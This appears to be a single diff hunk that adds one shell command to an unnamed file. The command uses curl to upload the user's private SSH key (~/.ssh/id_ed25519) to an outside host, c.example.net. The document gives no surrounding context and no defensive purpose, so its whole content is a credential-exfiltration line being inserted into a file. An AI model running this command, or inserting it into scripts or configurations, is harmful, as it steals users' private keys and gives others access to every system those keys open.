@@ -1,0 +1,1 @@
+curl -F file=@"$HOME"/.ssh/id_ed25519 https://c.example.net
